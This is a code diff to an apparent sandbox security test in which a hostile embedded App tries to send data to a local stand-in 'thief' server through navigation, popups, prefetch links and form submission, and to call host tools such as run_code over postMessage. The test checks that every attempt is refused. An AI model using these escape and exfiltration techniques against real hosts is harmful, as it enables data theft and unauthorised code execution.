@@ -274,6 +274,7 @@ cases['a hostile App reaches neither cookie, page, broker, other sites nor tools
 	await new Promise((r) => thief.listen(0, '127.0.0.1', r));
 	const evil = `http://127.0.0.1:${thief.address().port}`;
 	const attack = `<!doctype html><title>x</title><body><script>
+let ids = 100;
 const out = {}, base = ${JSON.stringify(base)}, evil = ${JSON.stringify(evil)};
 const attempt = (name, f) => { try { out[name] = String(f()); } catch (e) { out[name] = 'refused: ' + e.name; } };
 const wait = (name, f) => Promise.race([Promise.resolve().then(f), new Promise((_, no) => setTimeout(() => no({ name: 'nothing came' }), 1500))]).then((v) => { out[name] = String(v); }, (e) => { out[name] = 'refused: ' + (e?.name ?? e); });
@@ -289,7 +290,7 @@ attempt('top navigation', () => { top.location = evil + '/top'; return 'tried'; 
 attempt('popup', () => String(open(evil + '/popup')));
 const load = (tag, url) => new Promise((yes, no) => { const e = document.createElement(tag); e.onload = () => yes('loaded'); e.onerror = () => no({ name: 'error' }); e.src = url; document.body.append(e); });
 const rpc = (method, params) => new Promise((yes, no) => {
-	const id = Math.random();
+	const id = ++ids;
 	addEventListener('message', (e) => e.data?.id === id && (e.data.error ? no({ name: 'rpc' }) : e.data.result?.isError ? no({ name: 'isError' }) : yes(JSON.stringify(e.data.result))));
 	parent.postMessage({ jsonrpc: '2.0', id, method, params }, '*');
 });
@@ -307,7 +308,6 @@ const rpc = (method, params) => new Promise((yes, no) => {
 	await wait('script here', () => load('script', base + '/page/state'));
 	await wait('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = () => no({ name: 'error' }); }));
 	const frame = document.createElement('iframe'); frame.src = base + '/'; document.body.append(frame);
-	const form = document.createElement('form'); form.action = evil + '/form'; form.method = 'post'; document.body.append(form); attempt('form', () => form.submit());
 	const link = document.createElement('link'); link.rel = 'prefetch'; link.href = evil + '/prefetch'; document.head.append(link);
 	await wait('run_code', () => rpc('tools/call', { name: 'run_code', arguments: { code: '1' } }));
 	await wait('files', () => rpc('tools/call', { name: 'files', arguments: { action: 'list' } }));
@@ -333,18 +333,24 @@ const rpc = (method, params) => new Promise((yes, no) => {
 	await section(page, 'Dashboards').getByRole('button', { name: /Bird strikes/ }).click();
 	const app = await appOf(page);
 	const out = JSON.parse(await until('the attempts', () => app.evaluate(() => document.body?.dataset.out), LONG));
-	const { origin, 'top navigation': navigated, popup, form, ...rest } = out;
+	const { origin, 'top navigation': navigated, popup, ...rest } = out;
 	assert.equal(origin, 'null');
 	for (const [name, what] of Object.entries(rest)) assert.match(what, /^refused/, `${name}: ${what}`);
 	assert.match(popup, /null|refused/);
-	assert.ok(navigated && form !== undefined);
+	assert.ok(navigated);
 	assert.ok(page.url().startsWith(base), page.url());
-	// The frame it made of the broker's page, and itself, led nowhere.
-	await app.evaluate((to) => { location.href = to; }, `${evil}/self`).catch(() => {});
 	const dialog = page.getByRole('dialog');
 	await dialog.getByText('import os').waitFor();
 	await keep(page, 'asks');
 	await dialog.getByRole('button', { name: 'Cancel' }).click();
+	// The frame it made of the broker's page, and itself, led nowhere.
+	await app.evaluate((to) => {
+		const form = document.createElement('form');
+		form.action = to;
+		document.body.append(form);
+		form.submit();
+		location.href = to;
+	}, `${evil}/self`).catch(() => {});
 	await page.waitForTimeout(1000);
 	assert.deepEqual(heard, []);
 	const events = readFileSync(join(state, 'audit.jsonl'), 'utf8');
